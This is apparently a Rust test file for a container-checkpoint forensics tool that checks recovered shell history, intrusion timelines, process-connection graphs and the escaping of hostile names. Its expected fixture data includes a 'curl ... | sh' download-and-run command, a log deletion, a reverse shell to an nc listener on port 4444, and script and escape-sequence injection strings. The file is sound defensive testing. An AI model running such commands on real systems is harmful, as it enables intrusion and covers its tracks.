//! Dated facts, typed commands, and who talks to whom, on real checkpoints.

use std::collections::BTreeSet;

use ckptfx_testkit::{Checkpoint, Container, File, PodmanVersion, Process};
use serde_json::{Value, json};

use crate::support::{ARCHIVES, fixture, on, on_bytes};

fn records<'d>(document: &'d Value, list: &str) -> &'d Vec<Value> {
    document[list].as_array().expect(list)
}

#[test]
fn commands_survive_without_a_history_file() {
    let document = on("history -o json", fixture("scenarios/bash")).status(0).json();
    let lines: Vec<_> = records(&document, "commands")
        .iter()
        .map(|one| (one["pid"].clone(), one["time"].clone(), one["line"].clone(), one["found"].clone()))
        .collect();
    let typed = |second: u32, line: &str| {
        (6.into(), format!("2026-11-23T22:15:{second}Z").into(), line.into(), "history-entry".into())
    };
    assert_eq!(
        lines,
        [
            typed(51, "curl -s http://198.51.100.7/x.sh | sh"),
            typed(51, "rm -f /var/log/nginx/access.log"),
            typed(52, "export AWS_SECRET=hunter2"),
            typed(52, "echo visible-tty-line"),
        ]
    );
    // Nobody typed anything in the others.
    for name in ARCHIVES.into_iter().filter(|name| *name != "scenarios/bash") {
        let document = on("history -o json", fixture(name)).status(0).json();
        assert_eq!(records(&document, "commands"), &Vec::<Value>::new(), "{name}");
    }
}

#[test]
fn events_are_in_order_and_say_who_vouches_for_them() {
    for name in ARCHIVES {
        let document = on("timeline -o json", fixture(name)).status(0).json();
        let events = records(&document, "events");
        let times: Vec<jiff::Timestamp> = events
            .iter()
            .map(|event| event["time"].as_str().expect("a time").parse().expect("RFC 3339"))
            .collect();
        assert!(times.is_sorted(), "{name}");
        let kinds: BTreeSet<&str> =
            events.iter().map(|event| event["kind"].as_str().expect("a kind")).collect();
        for kind in ["container-created", "checkpointed", "node-booted", "first-image-written"] {
            assert!(kinds.contains(kind), "{name}: {kind}");
        }
        for event in events {
            let claimed = [
                "file-modified",
                "ghost-modified",
                "ghost-accessed",
                "command-typed",
                "token-issued",
                "token-expires",
                "certificate-valid",
                "certificate-expires",
            ];
            let is_claimed = claimed.contains(&event["kind"].as_str().expect("a kind"));
            assert_eq!(event["reliability"] == "claimed", is_claimed, "{name}: {event}");
        }
        // The dump lies where the engine says that it was.
        let of = |kind: &str| events.iter().position(|event| event["kind"] == kind).expect(kind);
        assert!(times[of("container-created")] < times[of("first-image-written")], "{name}");
    }
}

#[test]
fn an_intrusion_in_order() {
    let words = "timeline --kind file-modified,ghost-modified,log-entry --from 2026-11-23T22:16:47Z";
    let text = on(words, fixture("shop-podman")).status(0).text();
    insta::assert_snapshot!("timeline-shop", text);
    let before = on("timeline --to 2026-11-23T22:00 -o json", fixture("shop-podman")).status(0).json();
    assert_eq!(records(&before, "events").len(), 4);
    on("timeline --from yesterday", fixture("shop-podman")).status(2);
}

#[test]
fn other_timeline_tools_can_read_it() {
    let events = on("timeline -o json", fixture("shop-podman")).status(0).json();
    let count = records(&events, "events").len();
    let lines = on("timeline -o timesketch", fixture("shop-podman")).status(0).lines();
    assert_eq!(lines.len(), count);
    for line in &lines {
        for key in ["message", "datetime", "timestamp_desc", "data_type"] {
            assert!(line[key].as_str().is_some_and(|text| !text.is_empty()), "{key}: {line}");
        }
        let time: jiff::Timestamp = line["datetime"].as_str().expect("a time").parse().expect("ISO 8601");
        assert_eq!(line["timestamp"], time.as_microsecond(), "{line}");
        assert!(line.get("_id").is_none() && line["tag"].is_array());
    }
    let body = on("timeline -o bodyfile", fixture("shop-podman")).status(0).text();
    assert_eq!(body.lines().count(), count);
    for line in body.lines() {
        let fields: Vec<&str> = line.split('|').collect();
        assert_eq!(fields.len(), 11, "{line}");
        // mactime passes over what is below 0, and prints 0 as a date.
        let times = fields[7..].iter().map(|field| field.parse::<i64>().expect("seconds"));
        let (known, unknown): (Vec<i64>, Vec<i64>) = times.partition(|seconds| *seconds >= 0);
        assert_eq!((known.len(), unknown), (1, vec![-1; 3]), "{line}");
    }
    assert!(body.contains("|/usr/bin/.rootsh|0|r/rrwsr-xr-x|0|0|125640|"), "{body}");
}

#[test]
fn the_reverse_shell_leads_to_its_listener() {
    let document = on("graph -o json", fixture("shop-podman")).status(0).json();
    let edge =
        records(&document, "edges").iter().find(|edge| edge["from_name"] == "sh(24)").expect("an edge");
    assert_eq!(
        (&edge["kind"], &edge["to_name"], &edge["directed"]),
        (&json!("tcp"), &json!("nc(22)"), &json!(true))
    );
    let node = records(&document, "nodes").iter().find(|node| node["pid"] == 22).expect("a node");
    assert_eq!(node["listens"], json!(["tcp 0.0.0.0:4444"]));
    let table = on("graph", fixture("scenarios/webshell")).status(0).text();
    insta::assert_snapshot!("graph-webshell", table);
    insta::assert_snapshot!("graph-dot", on("graph -o dot", fixture("scenarios/webshell")).status(0).text());
    insta::assert_snapshot!(
        "graph-mermaid",
        on("graph -o mermaid", fixture("scenarios/bash")).status(0).text()
    );
}

/// Names that a suspect chose cannot end a string, begin a line, or add an attribute.
#[test]
fn a_hostile_name_stays_a_name() {
    let name = b"\"];\n evil[label=\"<script>`|\x1b[2J\\\xff";
    let exe = "/tmp/\"]\nclick p1 \"javascript:alert(1)\" \u{202e}%%";
    let dump = Checkpoint::new().process(
        Process::new(1)
            .comm(&name[..15])
            .exe(exe)
            .fd(3, File::unix_listen(9, "@x\" ]\nevil -> p1 [label=\""))
            .child(Process::new(2).fd(3, File::pipe_write(3)))
            .fd(4, File::pipe_read(3)),
    );
    let tar = Container::new(dump).podman(PodmanVersion::V5).to_tar();
    let dot = on_bytes("graph -o dot", &tar).status(0).text();
    for line in dot.lines() {
        // Outside of quoted strings there are only our own words.
        let mut outside = String::new();
        let (mut quoted, mut escaped) = (false, false);
        for character in line.chars() {
            match character {
                '"' if !escaped => quoted = !quoted,
                _ if !quoted => outside.push(character),
                _ => {}
            }
            escaped = quoted && character == '\\' && !escaped;
        }
        assert!(!quoted, "{line}");
        assert!(!outside.contains("evil") && !outside.contains("click"), "{line}");
    }
    assert_eq!(dot.lines().count(), 4 + 2 + 2 + 1, "{dot}");
    let mermaid = on_bytes("graph -o mermaid", &tar).status(0).text();
    assert_eq!(mermaid.lines().count(), 1 + 2 + 2, "{mermaid}");
    for line in mermaid.lines().skip(1) {
        assert_eq!(line.matches('"').count(), 2, "{line}");
        assert!(!line.contains(['`', '%', '\\', '\u{1b}', '\u{202e}']), "{line}");
        assert!(!line.replace("<br/>", "").replace("-->", "").contains(['<', '>']), "{line}");
    }
    let body = on_bytes("timeline -o bodyfile", &tar).status(0).text();
    assert!(body.lines().all(|line| line.split('|').count() == 11), "{body}");
}

#[test]
fn forms_are_for_the_commands_that_have_them() {
    for (words, said) in [
        ("ps -o dot", "`ps` cannot write dot: use table, wide, json, jsonl, csv\n"),
        (
            "timeline -o mermaid",
            "`timeline` cannot write mermaid: use table, wide, json, jsonl, csv, bodyfile, timesketch\n",
        ),
        (
            "graph -o bodyfile",
            "`graph` cannot write bodyfile: use table, wide, json, jsonl, csv, dot, mermaid\n",
        ),
        (
            "grep-mem -o timesketch x",
            "`grep-mem` cannot write timesketch: use table, wide, json, jsonl, csv\n",
        ),
    ] {
        let ended = on(words, fixture("scenarios/bash")).status(2);
        assert_eq!(ended.stderr, format!("ckptfx: {said}"));
    }
}
